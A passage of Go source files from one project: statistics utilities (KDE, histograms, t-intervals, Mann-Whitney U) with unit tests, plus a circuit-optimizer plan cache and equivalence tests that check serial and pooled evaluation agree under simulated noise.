	if len(xs) == 0 || points <= 0 {
		return nil
	}
	s := Summarize(xs)
	h := bandwidth
	if h <= 0 {
		// Silverman's rule of thumb; fall back to 1 for degenerate data.
		h = 1.06 * s.StdDev * math.Pow(float64(len(xs)), -0.2)
		if h <= 0 {
			h = 1
		}
	}
	lo, hi := s.Min-3*h, s.Max+3*h
	step := (hi - lo) / float64(points-1)
	out := make([]Point, points)
	norm := 1 / (float64(len(xs)) * h * math.Sqrt(2*math.Pi))
	for i := range out {
		x := lo + float64(i)*step
		var d float64
		for _, xi := range xs {
			u := (x - xi) / h
			d += math.Exp(-0.5 * u * u)
		}
		out[i] = Point{X: x, Density: d * norm}
	}
	return out
}

// RenderHistogram renders bins as an ASCII bar chart, one bin per line,
// scaled so the tallest bar spans width characters.
func RenderHistogram(bins []Bin, width int) string {
	if len(bins) == 0 {
		return "(no data)\n"
	}
	maxCount := 0
	for _, b := range bins {
		if b.Count > maxCount {
			maxCount = b.Count
		}
	}
	if maxCount == 0 {
		maxCount = 1
	}
	var sb strings.Builder
	for _, b := range bins {
		bar := b.Count * width / maxCount
		fmt.Fprintf(&sb, "%10.1f–%-10.1f |%-*s| %d\n",
			b.Lo, b.Hi, width, strings.Repeat("#", bar), b.Count)
	}
	return sb.String()
}

// RenderKDE renders a KDE curve as an ASCII plot, one x-sample per line.
func RenderKDE(pts []Point, width int) string {
	if len(pts) == 0 {
		return "(no data)\n"
	}
	maxD := 0.0
	for _, p := range pts {
		if p.Density > maxD {
			maxD = p.Density
		}
	}
	if maxD == 0 {
		maxD = 1
	}
	var sb strings.Builder
	for _, p := range pts {
		bar := int(p.Density / maxD * float64(width))
		fmt.Fprintf(&sb, "%10.1f |%-*s| %.6f\n",
			p.X, width, strings.Repeat("*", bar), p.Density)
	}
	return sb.String()
}
