package stats

import (
	"math"
	"sort"
)

// This file extends the descriptive toolkit with the two inferential
// pieces the bench-report comparator needs: Student-t confidence
// intervals around a sample mean, and the Mann-Whitney U rank-sum test
// that benchstat popularised for deciding whether two benchmark runs
// actually differ or merely wobble.

// Interval is a two-sided confidence interval around a sample mean.
type Interval struct {
	Mean       float64
	Lo, Hi     float64
	Confidence float64 // e.g. 0.95
	N          int
}

// MeanCI returns the two-sided confidence interval for the mean of xs
// at the given confidence level (0.90, 0.95 or 0.99; other values are
// clamped to the nearest supported level). With fewer than two samples
// the interval collapses to the point estimate.
func MeanCI(xs []float64, confidence float64) Interval {
	s := Summarize(xs)
	iv := Interval{Mean: s.Mean, Lo: s.Mean, Hi: s.Mean, Confidence: confidence, N: s.N}
	if s.N < 2 {
		return iv
	}
	se := s.StdDev / math.Sqrt(float64(s.N))
	h := tCritical(s.N-1, confidence) * se
	iv.Lo, iv.Hi = s.Mean-h, s.Mean+h
	return iv
}

// tTable holds two-sided Student-t critical values per confidence
// level, indexed by degrees of freedom 1..30 followed by the entries
// for df = 40, 60, 120 and ∞ (the normal quantile).
var tTable = map[float64][]float64{
	0.90: {6.314, 2.920, 2.353, 2.132, 2.015, 1.943, 1.895, 1.860, 1.833, 1.812,
		1.796, 1.782, 1.771, 1.761, 1.753, 1.746, 1.740, 1.734, 1.729, 1.725,
		1.721, 1.717, 1.714, 1.711, 1.708, 1.706, 1.703, 1.701, 1.699, 1.697,
		1.684, 1.671, 1.658, 1.645},
	0.95: {12.706, 4.303, 3.182, 2.776, 2.571, 2.447, 2.365, 2.306, 2.262, 2.228,
		2.201, 2.179, 2.160, 2.145, 2.131, 2.120, 2.110, 2.101, 2.093, 2.086,
		2.080, 2.074, 2.069, 2.064, 2.060, 2.056, 2.052, 2.048, 2.045, 2.042,
		2.021, 2.000, 1.980, 1.960},
	0.99: {63.657, 9.925, 5.841, 4.604, 4.032, 3.707, 3.499, 3.355, 3.250, 3.169,
		3.106, 3.055, 3.012, 2.977, 2.947, 2.921, 2.898, 2.878, 2.861, 2.845,
		2.831, 2.819, 2.807, 2.797, 2.787, 2.779, 2.771, 2.763, 2.756, 2.750,
		2.704, 2.660, 2.617, 2.576},
}

// tCritical returns the two-sided Student-t critical value for the
// given degrees of freedom and confidence level.
func tCritical(df int, confidence float64) float64 {
	// Snap to the nearest supported level; an exact tie (0.97 sits
	// bitwise-equidistant from 0.95 and 0.99) must not depend on map
	// iteration order, so ties go to the lower level.
	level := 0.95
	best := math.Inf(1)
	for l := range tTable {
		if d := math.Abs(l - confidence); d < best || (d == best && l < level) {
			best, level = d, l
		}
	}
	row := tTable[level]
	switch {
	case df < 1:
		return row[0]
	case df <= 30:
		return row[df-1]
	case df <= 40:
		return row[30]
	case df <= 60:
		return row[31]
	case df <= 120:
		return row[32]
	default:
		return row[33]
	}
}

// UTest is the result of a two-sided Mann-Whitney U test.
type UTest struct {
	U float64 // rank-sum statistic of the first sample
	Z float64 // normal approximation with tie correction
	P float64 // two-sided p-value
}

// MannWhitney runs the two-sided Mann-Whitney U test on two independent
// samples using the normal approximation with tie correction — the
// decision procedure behind the comparator's "significant" verdicts.
// When either sample is empty, or every value is tied (zero variance),
// it returns P = 1: no evidence of a difference.
func MannWhitney(xs, ys []float64) UTest {
	n1, n2 := len(xs), len(ys)
	if n1 == 0 || n2 == 0 {
		return UTest{P: 1}
	}

	// Rank the pooled sample, averaging ranks across ties.
	type obs struct {
		v     float64
		first bool
	}
	pool := make([]obs, 0, n1+n2)
	for _, x := range xs {
		pool = append(pool, obs{x, true})
	}
	for _, y := range ys {
		pool = append(pool, obs{y, false})
	}
	sort.Slice(pool, func(i, j int) bool { return pool[i].v < pool[j].v })

	var r1 float64      // rank sum of xs
	var tieTerm float64 // Σ (t³ − t) over tie groups
	for i := 0; i < len(pool); {
		j := i
		for j < len(pool) && pool[j].v == pool[i].v {
			j++
		}
		t := float64(j - i)
		avgRank := (float64(i+1) + float64(j)) / 2
		for k := i; k < j; k++ {
			if pool[k].first {
				r1 += avgRank
			}
		}
		tieTerm += t*t*t - t
		i = j
	}

	u := r1 - float64(n1)*float64(n1+1)/2
	n := float64(n1 + n2)
	mu := float64(n1) * float64(n2) / 2
	variance := float64(n1) * float64(n2) / 12 * (n + 1 - tieTerm/(n*(n-1)))
	if variance <= 0 {
		return UTest{U: u, P: 1}
	}
	z := (u - mu) / math.Sqrt(variance)
	p := math.Erfc(math.Abs(z) / math.Sqrt2)
	return UTest{U: u, Z: z, P: p}
}
