package stats

import (
	"math"
	"sort"
	"testing"
	"testing/quick"
)

func TestSummarizeKnownValues(t *testing.T) {
	s := Summarize([]float64{1, 2, 3, 4, 5})
	if s.N != 5 || s.Min != 1 || s.Max != 5 || s.Median != 3 || s.Mean != 3 {
		t.Errorf("summary = %+v", s)
	}
	if s.Q1 != 2 || s.Q3 != 4 {
		t.Errorf("quartiles = %f, %f", s.Q1, s.Q3)
	}
	if math.Abs(s.StdDev-math.Sqrt(2.5)) > 1e-9 {
		t.Errorf("stddev = %f", s.StdDev)
	}
}

func TestSummarizeEdgeCases(t *testing.T) {
	if s := Summarize(nil); s.N != 0 {
		t.Error("empty summary not zero")
	}
	s := Summarize([]float64{7})
	if s.Min != 7 || s.Max != 7 || s.Median != 7 || s.StdDev != 0 {
		t.Errorf("singleton summary = %+v", s)
	}
}

func TestSummarizeDoesNotMutate(t *testing.T) {
	xs := []float64{3, 1, 2}
	Summarize(xs)
	if xs[0] != 3 || xs[1] != 1 || xs[2] != 2 {
		t.Error("input mutated")
	}
}

func TestSummaryOrderingProperty(t *testing.T) {
	f := func(raw []float64) bool {
		xs := make([]float64, 0, len(raw))
		for _, x := range raw {
			// Bound magnitudes so the mean cannot overflow — the
			// invariant under test is ordering, not float saturation.
			if !math.IsNaN(x) && !math.IsInf(x, 0) && math.Abs(x) < 1e12 {
				xs = append(xs, x)
			}
		}
		if len(xs) == 0 {
			return true
		}
		s := Summarize(xs)
		return s.Min <= s.Q1 && s.Q1 <= s.Median &&
			s.Median <= s.Q3 && s.Q3 <= s.Max &&
			s.Min <= s.Mean && s.Mean <= s.Max
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestQuantileInterpolation(t *testing.T) {
	sorted := []float64{0, 10}
	if q := Quantile(sorted, 0.5); q != 5 {
		t.Errorf("interpolated median = %f", q)
	}
	if Quantile(sorted, 0) != 0 || Quantile(sorted, 1) != 10 {
		t.Error("extreme quantiles wrong")
	}
	if Quantile(nil, 0.5) != 0 {
		t.Error("empty quantile not zero")
	}
}

func TestQuantileEdgeCases(t *testing.T) {
	// n = 1: every quantile is the single sample.
	one := []float64{42}
	for _, q := range []float64{0, 0.25, 0.5, 0.75, 1} {
		if got := Quantile(one, q); got != 42 {
			t.Errorf("Quantile([42], %v) = %v", q, got)
		}
	}
	// Duplicate values: interpolation between equal order statistics
	// must stay exactly on the duplicated value.
	dup := []float64{1, 5, 5, 5, 9}
	if got := Quantile(dup, 0.5); got != 5 {
		t.Errorf("median of duplicates = %v, want 5", got)
	}
	if got := Quantile(dup, 0.375); got != 5 {
		t.Errorf("Quantile(dup, 0.375) = %v, want 5", got)
	}
	// p = 0 and p = 1 pin to the extremes, including out-of-range p.
	xs := []float64{2, 4, 6, 8}
	if Quantile(xs, 0) != 2 || Quantile(xs, -0.5) != 2 {
		t.Error("p ≤ 0 must return the minimum")
	}
	if Quantile(xs, 1) != 8 || Quantile(xs, 1.5) != 8 {
		t.Error("p ≥ 1 must return the maximum")
	}
	// Exact order-statistic hit (no interpolation): 0.25 over 5
	// elements lands on index 1 exactly.
	five := []float64{10, 20, 30, 40, 50}
	if got := Quantile(five, 0.25); got != 20 {
		t.Errorf("Quantile(five, 0.25) = %v, want 20", got)
	}
}

func TestMedianInt64(t *testing.T) {
	if m := MedianInt64([]int64{5, 1, 9}); m != 5 {
		t.Errorf("median = %d", m)
	}
	// Even length: lower-middle, per skelly's convention.
	if m := MedianInt64([]int64{4, 1, 3, 2}); m != 2 {
		t.Errorf("even median = %d", m)
	}
	defer func() {
		if recover() == nil {
			t.Error("empty median did not panic")
		}
	}()
	MedianInt64(nil)
}

func TestMedianDoesNotMutate(t *testing.T) {
	xs := []int64{3, 1, 2}
	MedianInt64(xs)
	if xs[0] != 3 {
		t.Error("MedianInt64 mutated its input")
	}
}

func TestHistogramCoversAllSamples(t *testing.T) {
	f := func(raw []float64) bool {
		xs := make([]float64, 0, len(raw))
		for _, x := range raw {
			if !math.IsNaN(x) && !math.IsInf(x, 0) && math.Abs(x) < 1e12 {
				xs = append(xs, x)
			}
		}
		if len(xs) == 0 {
			return true
		}
		bins := Histogram(xs, 7)
		total := 0
		for _, b := range bins {
			total += b.Count
		}
		return total == len(xs)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestHistogramIntsBins(t *testing.T) {
	bins := HistogramInts([]int64{1, 2, 3, 10}, 2)
	total := 0
	for _, b := range bins {
		total += b.Count
	}
	if total != 4 {
		t.Errorf("histogram lost samples: %d", total)
	}
	if bins[0].Count != 2 { // 1, 2 in [1,3)
		t.Errorf("first bin = %d", bins[0].Count)
	}
}

func TestHistogramEmptyAndDegenerate(t *testing.T) {
	if Histogram(nil, 5) != nil {
		t.Error("empty histogram not nil")
	}
	bins := Histogram([]float64{4, 4, 4}, 3)
	total := 0
	for _, b := range bins {
		total += b.Count
	}
	if total != 3 {
		t.Error("degenerate histogram lost samples")
	}
}

func TestKDEBimodal(t *testing.T) {
	// Two tight clusters: the KDE must peak near both and dip between.
	var xs []float64
	for i := 0; i < 200; i++ {
		xs = append(xs, 35+float64(i%5)-2)
		xs = append(xs, 224+float64(i%5)-2)
	}
	pts := KDE(xs, 4, 200)
	if len(pts) != 200 {
		t.Fatalf("points = %d", len(pts))
	}
	densityAt := func(x float64) float64 {
		best, bd := math.MaxFloat64, 0.0
		for _, p := range pts {
			if d := math.Abs(p.X - x); d < best {
				best, bd = d, p.Density
			}
		}
		return bd
	}
	if densityAt(35) < 4*densityAt(130) || densityAt(224) < 4*densityAt(130) {
		t.Error("KDE not bimodal for hit/miss clusters")
	}
}

func TestKDEIntegratesToOne(t *testing.T) {
	xs := []float64{10, 12, 15, 30, 31}
	pts := KDE(xs, 2, 400)
	var integral float64
	for i := 1; i < len(pts); i++ {
		integral += (pts[i].Density + pts[i-1].Density) / 2 * (pts[i].X - pts[i-1].X)
	}
	if math.Abs(integral-1) > 0.05 {
		t.Errorf("KDE integral = %f", integral)
	}
}

func TestKDESilvermanFallback(t *testing.T) {
	pts := KDE([]float64{5, 5, 5}, 0, 50) // zero variance → fallback bandwidth
	if len(pts) != 50 {
		t.Fatal("no points")
	}
	if KDE(nil, 1, 10) != nil {
		t.Error("empty KDE not nil")
	}
}

func TestRenderers(t *testing.T) {
	bins := Histogram([]float64{1, 2, 2, 3}, 3)
	if out := RenderHistogram(bins, 20); len(out) == 0 {
		t.Error("empty histogram render")
	}
	if out := RenderHistogram(nil, 20); out != "(no data)\n" {
		t.Errorf("nil render = %q", out)
	}
	pts := KDE([]float64{1, 2, 3}, 1, 10)
	if out := RenderKDE(pts, 20); len(out) == 0 {
		t.Error("empty KDE render")
	}
	if out := RenderKDE(nil, 20); out != "(no data)\n" {
		t.Errorf("nil KDE render = %q", out)
	}
}

func TestSummarizeIntsMatchesFloat(t *testing.T) {
	xs := []int64{9, 1, 4, 4, 7}
	fi := SummarizeInts(xs)
	fs := make([]float64, len(xs))
	for i, x := range xs {
		fs[i] = float64(x)
	}
	ff := Summarize(fs)
	if fi != ff {
		t.Errorf("int/float summaries differ: %+v vs %+v", fi, ff)
	}
	// Keep sort import honest (documented lower-middle convention).
	sorted := append([]int64(nil), xs...)
	sort.Slice(sorted, func(i, j int) bool { return sorted[i] < sorted[j] })
	if MedianInt64(xs) != sorted[(len(sorted)-1)/2] {
		t.Error("median convention drifted")
	}
}
