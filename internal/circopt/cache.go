package circopt

import (
	"container/list"
	"sync"
	"sync/atomic"

	"uwm/internal/core"
	"uwm/internal/metrics"
)

// Metric series exported by the plan cache and the evaluator pool.
const (
	MetricCacheHits    = "uwm_circopt_plan_cache_hits_total"
	MetricCacheMisses  = "uwm_circopt_plan_cache_misses_total"
	MetricCacheEntries = "uwm_circopt_plan_cache_entries"
	MetricGatesIn      = "uwm_circopt_gates_in_total"
	MetricGatesOut     = "uwm_circopt_gates_out_total"
	MetricEvals        = "uwm_circopt_evals_total"
	MetricGateOps      = "uwm_circopt_gate_ops_total"
)

// Cache is a content-addressed plan cache: plans are keyed on the
// sha256 fingerprint of (canonical netlist, bindings), so a circuit
// re-submitted by any client — or the same preset requested by every
// worker of a pool — is optimized exactly once. Bounded LRU.
type Cache struct {
	mu      sync.Mutex
	cap     int
	order   *list.List // front = most recently used; element values are keys
	entries map[string]*cacheEntry

	hits, misses      atomic.Uint64
	gatesIn, gatesOut atomic.Uint64
}

type cacheEntry struct {
	plan *Plan
	elem *list.Element
}

// NewCache builds a plan cache holding up to capacity plans
// (default 64) and registers its instruments on reg when non-nil.
func NewCache(capacity int, reg *metrics.Registry) *Cache {
	if capacity <= 0 {
		capacity = 64
	}
	c := &Cache{cap: capacity, order: list.New(), entries: make(map[string]*cacheEntry)}
	if reg != nil {
		reg.CounterFunc(MetricCacheHits, "plans served from the content-addressed cache", c.hits.Load)
		reg.CounterFunc(MetricCacheMisses, "plan-cache misses (fresh optimizations)", c.misses.Load)
		reg.GaugeFunc(MetricCacheEntries, "plans resident in the cache", func() float64 {
			c.mu.Lock()
			defer c.mu.Unlock()
			return float64(len(c.entries))
		})
		reg.CounterFunc(MetricGatesIn, "source gates entering the optimizer", c.gatesIn.Load)
		reg.CounterFunc(MetricGatesOut, "gates surviving optimization", c.gatesOut.Load)
	}
	return c
}

// Plan returns the optimized plan for (spec, opts), optimizing on a
// miss. The second return reports whether the plan was served from
// the cache. Plans are immutable once built; callers share them.
func (c *Cache) Plan(spec *core.CircuitSpec, opts Options) (*Plan, bool, error) {
	key, err := Fingerprint(spec, opts)
	if err != nil {
		return nil, false, err
	}
	c.mu.Lock()
	if e, ok := c.entries[key]; ok {
		c.order.MoveToFront(e.elem)
		c.mu.Unlock()
		c.hits.Add(1)
		return e.plan, true, nil
	}
	c.mu.Unlock()

	// Optimize outside the lock: plans are deterministic functions of
	// the key, so a racing duplicate computes an identical plan and
	// the second insert is a harmless overwrite.
	plan, err := Optimize(spec, opts)
	if err != nil {
		return nil, false, err
	}
	c.misses.Add(1)
	c.gatesIn.Add(uint64(plan.Stats.GatesIn))
	c.gatesOut.Add(uint64(plan.Stats.GatesOut))

	c.mu.Lock()
	if e, ok := c.entries[key]; ok {
		c.order.MoveToFront(e.elem)
		c.mu.Unlock()
		return e.plan, false, nil
	}
	c.entries[key] = &cacheEntry{plan: plan, elem: c.order.PushFront(key)}
	for len(c.entries) > c.cap {
		oldest := c.order.Back()
		c.order.Remove(oldest)
		delete(c.entries, oldest.Value.(string))
	}
	c.mu.Unlock()
	return plan, false, nil
}

// Stats returns the hit/miss counters and the resident plan count.
func (c *Cache) Stats() (hits, misses uint64, entries int) {
	c.mu.Lock()
	entries = len(c.entries)
	c.mu.Unlock()
	return c.hits.Load(), c.misses.Load(), entries
}
