package circopt_test

import (
	"fmt"
	"testing"

	"uwm/internal/circopt"
	"uwm/internal/core"
	"uwm/internal/health"
	"uwm/internal/noise"
	"uwm/internal/skelly"
	"uwm/internal/trace"
)

// buildLib constructs one calibrated gate library exactly the way a
// pool worker does: fixed seed, fixed construction order, replayable
// noise — the engine's rig discipline.
func buildLib(seed uint64) (circopt.GateLib, error) {
	m, err := core.NewMachine(core.Options{
		Seed:            seed,
		Noise:           noise.Replayable(),
		TrainIterations: 2,
	})
	if err != nil {
		return nil, err
	}
	return skelly.New(m, skelly.FastConfig())
}

// TestSerialPlanPoolByteIdentical is the circopt equivalence property:
// random seeded netlists evaluated (a) unoptimized and serial, (b) as
// an optimized plan on one machine, (c) level-parallel across pools of
// 2 and 3, and (d) batch-parallel — all byte-identical, under a noise
// model where individual gates do err.
func TestSerialPlanPoolByteIdentical(t *testing.T) {
	rng := noise.NewRNG(2021)
	serial, err := buildLib(2021)
	if err != nil {
		t.Fatal(err)
	}
	pools := make([]*circopt.Pool, 0, 2)
	for _, workers := range []int{2, 3} {
		pool, err := circopt.NewPool(circopt.PoolConfig{
			Workers: workers,
			Build:   func(int) (circopt.GateLib, error) { return buildLib(2021) },
		})
		if err != nil {
			t.Fatal(err)
		}
		pools = append(pools, pool)
	}

	for trial := 0; trial < 6; trial++ {
		spec := randomSpec(rng, 3+rng.Intn(4), 10+rng.Intn(50))
		plan, err := circopt.Optimize(spec, circopt.Options{})
		if err != nil {
			t.Fatalf("trial %d: %v", trial, err)
		}
		batch := make([][]int, 4)
		for v := range batch {
			batch[v] = randomInputs(rng, spec.NumInputs)
		}
		evalSeed := rng.Uint64()

		// Reference: unoptimized serial walk, per-vector sub-seeds.
		want := make([][]int, len(batch))
		for v, in := range batch {
			out, err := circopt.EvalSpec(serial, spec, in, noise.SubSeed(evalSeed, uint64(v)))
			if err != nil {
				t.Fatalf("trial %d: EvalSpec: %v", trial, err)
			}
			want[v] = out
		}

		// Optimized serial plan on the same machine.
		for v, in := range batch {
			out, err := circopt.EvalPlan(serial, plan, in, noise.SubSeed(evalSeed, uint64(v)))
			if err != nil {
				t.Fatalf("trial %d: EvalPlan: %v", trial, err)
			}
			if !equalInts(out, want[v]) {
				t.Fatalf("trial %d vector %d: serial plan %v != unoptimized %v (stats %+v)",
					trial, v, out, want[v], plan.Stats)
			}
		}

		for _, pool := range pools {
			// Level-parallel single evaluations.
			for v, in := range batch {
				out, err := pool.Eval(plan, in, noise.SubSeed(evalSeed, uint64(v)))
				if err != nil {
					t.Fatalf("trial %d: pool-%d Eval: %v", trial, pool.Workers(), err)
				}
				if !equalInts(out, want[v]) {
					t.Fatalf("trial %d vector %d: pool-%d %v != serial %v",
						trial, v, pool.Workers(), out, want[v])
				}
			}
			// Batch-parallel evaluation.
			outs, err := pool.EvalBatch(plan, batch, evalSeed)
			if err != nil {
				t.Fatalf("trial %d: pool-%d EvalBatch: %v", trial, pool.Workers(), err)
			}
			for v := range batch {
				if !equalInts(outs[v], want[v]) {
					t.Fatalf("trial %d vector %d: pool-%d batch %v != serial %v",
						trial, v, pool.Workers(), outs[v], want[v])
				}
			}
		}
	}
}

// TestGateErrorsStayAligned raises the noise until single gates err and
// re-checks alignment: the byte-equality guarantee must hold *through*
// gate errors, not only when every gate happens to be correct. The
// netlist is adder16 (CSE-heavy), the check is that unoptimized serial
// and pooled plan evaluation still agree on every output bit while at
// least one output in the batch disagrees with the architectural
// golden — proof the noise actually bit.
func TestGateErrorsStayAligned(t *testing.T) {
	spec, err := circopt.Preset("adder16")
	if err != nil {
		t.Fatal(err)
	}
	plan, err := circopt.Optimize(spec, circopt.Options{})
	if err != nil {
		t.Fatal(err)
	}
	hostile := noise.Noisy()
	hostile.WindowJitterStdDev = 0 // keep only the history-free processes
	hostile.MemJitterStdDev = 0
	build := func(int) (circopt.GateLib, error) {
		m, err := core.NewMachine(core.Options{Seed: 99, Noise: hostile, TrainIterations: 2})
		if err != nil {
			return nil, err
		}
		return skelly.New(m, skelly.FastConfig())
	}
	serial, err := build(0)
	if err != nil {
		t.Fatal(err)
	}
	pool, err := circopt.NewPool(circopt.PoolConfig{Workers: 4, Build: build})
	if err != nil {
		t.Fatal(err)
	}

	rng := noise.NewRNG(5)
	erred := false
	for v := 0; v < 6; v++ {
		in := randomInputs(rng, spec.NumInputs)
		seed := noise.SubSeed(77, uint64(v))
		want, err := circopt.EvalSpec(serial, spec, in, seed)
		if err != nil {
			t.Fatal(err)
		}
		got, err := pool.Eval(plan, in, seed)
		if err != nil {
			t.Fatal(err)
		}
		if !equalInts(got, want) {
			t.Fatalf("vector %d: pooled %v != serial %v under hostile noise", v, got, want)
		}
		golden, err := spec.Eval(in)
		if err != nil {
			t.Fatal(err)
		}
		if !equalInts(want, golden) {
			erred = true
		}
	}
	if !erred {
		t.Log("note: no gate error surfaced in 6 vectors; alignment still verified")
	}
}

// TestHealthVerdictReplay closes the loop with the health plane: a
// serial run and a pooled run must leave their monitors with the same
// verdict, and replaying each machine's recorded trace offline must
// reproduce the live verdict — the flight-recorder guarantee extended
// over plan evaluation.
func TestHealthVerdictReplay(t *testing.T) {
	spec, err := circopt.Preset("adder8")
	if err != nil {
		t.Fatal(err)
	}
	plan, err := circopt.Optimize(spec, circopt.Options{})
	if err != nil {
		t.Fatal(err)
	}

	type observed struct {
		lib circopt.GateLib
		mon *health.Monitor
		rec *trace.Recorder
	}
	var all []*observed
	build := func(int) (circopt.GateLib, error) {
		mon := health.NewMonitor(health.Config{})
		rec := trace.NewRecorder(1 << 16)
		m, err := core.NewMachine(core.Options{
			Seed:            2021,
			Noise:           noise.Replayable(),
			TrainIterations: 2,
			Trace:           rec,
			HealthTap:       mon,
		})
		if err != nil {
			return nil, err
		}
		lib, err := skelly.New(m, skelly.FastConfig())
		if err != nil {
			return nil, err
		}
		all = append(all, &observed{lib: lib, mon: mon, rec: rec})
		return lib, nil
	}

	serialLib, err := build(0)
	if err != nil {
		t.Fatal(err)
	}
	pool, err := circopt.NewPool(circopt.PoolConfig{Workers: 2, Build: build})
	if err != nil {
		t.Fatal(err)
	}

	rng := noise.NewRNG(3)
	batch := make([][]int, 4)
	for v := range batch {
		batch[v] = randomInputs(rng, spec.NumInputs)
	}
	serialOut := make([][]int, len(batch))
	for v, in := range batch {
		if serialOut[v], err = circopt.EvalPlan(serialLib, plan, in, noise.SubSeed(9, uint64(v))); err != nil {
			t.Fatal(err)
		}
	}
	pooledOut, err := pool.EvalBatch(plan, batch, 9)
	if err != nil {
		t.Fatal(err)
	}
	for v := range batch {
		if !equalInts(pooledOut[v], serialOut[v]) {
			t.Fatalf("vector %d: pooled %v != serial %v", v, pooledOut[v], serialOut[v])
		}
	}

	// Per machine: the replayed verdict must equal the live verdict in
	// every field — the live == offline guarantee. Across machines the
	// margin statistics legitimately differ (the serial machine ran all
	// vectors, each pool worker its share), but they must agree on the
	// drift state.
	states := make(map[string]bool)
	for i, o := range all {
		live := o.mon.Verdict()
		replayed := health.Replay(o.rec.Events(), health.Config{}).Verdict()
		if live != replayed {
			t.Errorf("machine %d: live verdict %+v != replayed %+v", i, live, replayed)
		}
		states[fmt.Sprintf("drifting=%v threshold=%d", live.Drifting, live.Threshold)] = true
	}
	if len(states) != 1 {
		t.Errorf("serial and pooled monitors disagree on the drift state: %v", states)
	}
}
