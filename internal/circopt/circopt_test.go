package circopt_test

import (
	"testing"

	"uwm/internal/circopt"
	"uwm/internal/core"
	"uwm/internal/noise"
)

// randomSpec generates a seeded netlist with deliberate duplicate
// gates (CSE fodder) and a random output subset (dead-wire fodder).
func randomSpec(rng *noise.RNG, numInputs, numGates int) *core.CircuitSpec {
	s := core.NewCircuitSpec(numInputs)
	for len(s.Gates) < numGates {
		defined := core.WireID(s.NumWires())
		if len(s.Gates) > 0 && rng.Intn(4) == 0 {
			// Exact duplicate of an earlier gate.
			g := s.Gates[rng.Intn(len(s.Gates))]
			switch g.Op {
			case core.CircAssign:
				s.Assign(g.A)
			case core.CircAnd:
				s.And(g.A, g.B)
			case core.CircOr:
				s.Or(g.A, g.B)
			case core.CircNot:
				s.Not(g.A)
			}
			continue
		}
		a := core.WireID(rng.Intn(int(defined)))
		b := core.WireID(rng.Intn(int(defined)))
		switch rng.Intn(4) {
		case 0:
			s.Assign(a)
		case 1:
			s.And(a, b)
		case 2:
			s.Or(a, b)
		case 3:
			s.Not(a)
		}
	}
	outputs := 1 + rng.Intn(numInputs)
	for i := 0; i < outputs; i++ {
		s.Output(core.WireID(rng.Intn(s.NumWires())))
	}
	return s
}

func randomInputs(rng *noise.RNG, n int) []int {
	in := make([]int, n)
	for i := range in {
		in[i] = rng.Intn(2)
	}
	return in
}

func equalInts(a, b []int) bool {
	if len(a) != len(b) {
		return false
	}
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

// TestOptimizeGoldenEquivalence: for many random netlists, the plan's
// architectural evaluation must match the source netlist's Eval on
// random inputs — the passes preserve logical semantics.
func TestOptimizeGoldenEquivalence(t *testing.T) {
	rng := noise.NewRNG(7)
	for trial := 0; trial < 200; trial++ {
		spec := randomSpec(rng, 2+rng.Intn(6), 4+rng.Intn(40))
		plan, err := circopt.Optimize(spec, circopt.Options{})
		if err != nil {
			t.Fatalf("trial %d: Optimize: %v", trial, err)
		}
		for v := 0; v < 8; v++ {
			in := randomInputs(rng, spec.NumInputs)
			want, err := spec.Eval(in)
			if err != nil {
				t.Fatalf("trial %d: Eval: %v", trial, err)
			}
			got, err := plan.Golden(in)
			if err != nil {
				t.Fatalf("trial %d: Golden: %v", trial, err)
			}
			if !equalInts(got, want) {
				t.Fatalf("trial %d inputs %v: plan %v != spec %v\nstats %+v",
					trial, in, got, want, plan.Stats)
			}
		}
	}
}

// TestOptimizePasses pins the individual passes on a hand-built
// netlist: a duplicated AND (CSE), an assign chain (copy propagation)
// and an unused gate (dead-wire elimination).
func TestOptimizePasses(t *testing.T) {
	s := core.NewCircuitSpec(2)
	and1 := s.And(0, 1)   // live
	and2 := s.And(0, 1)   // duplicate of and1
	buf := s.Assign(and2) // wiring
	or := s.Or(and1, buf) // live (reads the merged class twice)
	s.Not(or)             // dead: never an output
	s.Output(or)

	plan, err := circopt.Optimize(s, circopt.Options{})
	if err != nil {
		t.Fatal(err)
	}
	st := plan.Stats
	if st.Dupes != 1 {
		t.Errorf("Dupes = %d, want 1", st.Dupes)
	}
	if st.Assigns != 1 {
		t.Errorf("Assigns = %d, want 1", st.Assigns)
	}
	if st.Dead != 1 {
		t.Errorf("Dead = %d, want 1 (the NOT)", st.Dead)
	}
	if st.GatesOut != 2 {
		t.Errorf("GatesOut = %d, want 2 (one AND, one OR), plan %+v", st.GatesOut, plan.Gates)
	}
	if st.Levels != 2 {
		t.Errorf("Levels = %d, want 2", st.Levels)
	}
}

// TestConstantFolding binds inputs and checks both the gate savings
// and logical equivalence at the bound point.
func TestConstantFolding(t *testing.T) {
	s := core.NewCircuitSpec(3)
	// (in0 & in1) | (!in1 & in2); binding in1=1 folds to in0 & 1 -> in0... | 0.
	a := s.And(0, 1)
	nb := s.Not(1)
	c := s.And(nb, 2)
	or := s.Or(a, c)
	s.Output(or)

	plan, err := circopt.Optimize(s, circopt.Options{Bind: map[core.WireID]int{1: 1}})
	if err != nil {
		t.Fatal(err)
	}
	if plan.Stats.Folded == 0 {
		t.Errorf("Folded = 0, want > 0; stats %+v", plan.Stats)
	}
	if plan.Stats.GatesOut != 0 {
		t.Errorf("GatesOut = %d, want 0 (output collapses to in0); gates %+v", plan.Stats.GatesOut, plan.Gates)
	}
	for _, in0 := range []int{0, 1} {
		for _, in2 := range []int{0, 1} {
			want, _ := s.Eval([]int{in0, 1, in2})
			got, err := plan.Golden([]int{in0, 0, in2}) // bound wire's live value is ignored
			if err != nil {
				t.Fatal(err)
			}
			if !equalInts(got, want) {
				t.Errorf("in0=%d in2=%d: folded %v != golden %v", in0, in2, got, want)
			}
		}
	}
}

// TestLevelsWellFormed: levels must partition the plan's gates and
// every gate's operands must be produced strictly earlier.
func TestLevelsWellFormed(t *testing.T) {
	rng := noise.NewRNG(11)
	for trial := 0; trial < 50; trial++ {
		spec := randomSpec(rng, 3, 5+rng.Intn(60))
		plan, err := circopt.Optimize(spec, circopt.Options{})
		if err != nil {
			t.Fatal(err)
		}
		seen := make(map[int]bool)
		ready := make([]int, plan.Slots) // level a slot becomes available
		for li, level := range plan.Levels {
			for _, gi := range level {
				if seen[gi] {
					t.Fatalf("trial %d: gate %d scheduled twice", trial, gi)
				}
				seen[gi] = true
				g := plan.Gates[gi]
				if g.Level != li+1 {
